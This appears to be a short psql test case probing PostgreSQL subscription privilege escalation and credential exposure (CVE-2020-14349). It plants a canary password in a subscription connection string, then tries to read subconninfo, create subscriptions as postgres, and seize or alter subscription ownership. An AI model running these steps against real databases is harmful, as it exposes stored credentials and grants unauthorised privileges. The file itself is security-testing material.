-- way: create a subscription, whose worker applies rows as its owner, or read the connection of another one
-- source: CVE-2020-14349
-- control: SELECT on pg_subscription
-- section: setup
SELECT format('CREATE SUBSCRIPTION %I CONNECTION %L PUBLICATION p WITH (connect = false)', current_database(),
  'host=far.example user=postgres password=' || :'canary') \gexec
-- section: application
SELECT * FROM pg_subscription;
SELECT subname, subconninfo FROM pg_subscription;
SELECT * FROM pg_stat_subscription;
CREATE SUBSCRIPTION climb CONNECTION 'user=postgres dbname=postgres' PUBLICATION p WITH (connect = false);
CREATE SUBSCRIPTION climb2 CONNECTION 'user=postgres dbname=postgres password=x' PUBLICATION p WITH (connect = false, slot_name = NONE);
SELECT format('ALTER SUBSCRIPTION %I OWNER TO CURRENT_USER', current_database()) \gexec
SELECT format('ALTER SUBSCRIPTION %I CONNECTION ''user=postgres''', current_database()) \gexec
SELECT format('DROP SUBSCRIPTION %I', current_database()) \gexec
-- section: control
GRANT SELECT ON pg_subscription TO :"access";
